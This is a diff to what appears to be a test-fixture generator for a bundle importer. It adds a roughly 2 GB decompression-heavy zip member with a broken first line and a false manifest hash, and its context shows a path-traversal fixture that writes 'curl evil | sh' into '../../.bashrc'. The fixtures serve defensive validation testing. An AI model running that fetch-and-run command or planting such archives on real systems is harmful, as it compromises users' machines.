@@ -202,6 +202,47 @@ def many_members(folder: Path, _good: Path, count: int = 1_000_000) -> Path:
                    (RawMember(f"m{i}", empty, 0, 0) for i in range(count)))
 
 
+def big_member_bad_first_line(folder: Path, _good: Path, chunks: int = 2000) -> Path:
+    """What took 170 s to refuse: an 11.8 MB bundle whose ``versions.jsonl`` honestly declares
+    ~2 GB (a compression ratio of about 150, under the 200:1 cap), the first line broken and the
+    manifest's hash of the member a lie that only reading to its end would show. ``chunks``
+    MiB of lines after the first."""
+    rng = random.Random(16)
+    lines, size = [], 0
+    while size < 1 << 20:
+        hexes = "".join(rng.choice("0123456789abcdef") for _ in range(2))
+        line = ('{"kind":"visit","note":"' + "来访" * 100 + hexes + '"}\n').encode()
+        lines.append(line)
+        size += len(line)
+    chunk = b"".join(lines)[: 1 << 20]
+    first = b'{"kind": "visit", broken\n'
+    c = zlib.compressobj(6, zlib.DEFLATED, -15)
+    head = c.compress(first) + c.flush(zlib.Z_FULL_FLUSH)
+    # after a full flush the compressor starts afresh, so every copy of the chunk deflates to
+    # the same bytes: deflate it once and repeat them
+    body = c.compress(chunk) + c.flush(zlib.Z_FULL_FLUSH)
+    tail = c.flush()
+    crc = zlib.crc32(first)
+    for _ in range(chunks):
+        crc = zlib.crc32(chunk, crc)
+    total = len(first) + chunks * len(chunk)
+    manifest = canonical_json({
+        "format": "frontdesk-bundle", "format_version": 1, "schema_version": SCHEMA,
+        "app_version": "0", "bundle_id": "big", "created_at": "2026-11-22T02:00:00Z",
+        "source_site": {"id": SOURCE, "name": "北门"}, "for_peer": None, "audit_head": None,
+        "counts": {"versions": 1, "purges": 0, "by_kind": {"visit": 1}},
+        "members": [{"name": VERSIONS, "size": total, "sha256": "0" * 64},
+                    {"name": PURGES, "size": 0, "sha256": hashlib.sha256(b"").hexdigest()}],
+    }).encode()
+
+    def members() -> Iterator[RawMember]:
+        yield RawMember(MANIFEST, _deflate(manifest), len(manifest), zlib.crc32(manifest))
+        yield RawMember(PURGES, _deflate(b""), 0, 0)
+        yield RawMember(VERSIONS, head + body * chunks + tail, total, crc)
+
+    return raw_zip(folder / "big_member_bad_first_line.fdb", members())
+
+
 def path_traversal(folder: Path, good: Path) -> Path:
     members = members_of(good) | {"../../.bashrc": b"curl evil | sh\n"}
     with zipfile.ZipFile(folder / "traversal.fdb", "w") as zf:
@@ -288,6 +329,7 @@ KINDS: dict[str, tuple[Generator, tuple[str, ...]]] = {
     "random bytes": (random_bytes, ("not_a_zip",)),
     "bad line early": (lambda f, g: bad_line(f, g, "early"), ("malformed",)),
     "bad line late": (lambda f, g: bad_line(f, g, "late"), ("malformed",)),
+    "2 GB member with a bad first line": (big_member_bad_first_line, ("malformed",)),
     "unknown member": (unknown_member, ("unknown_member",)),
     "unknown kind": (unknown_kind, ("unknown_kind",)),
     "stamp beyond the format": (bad_stamp, ("bad_stamp",)),
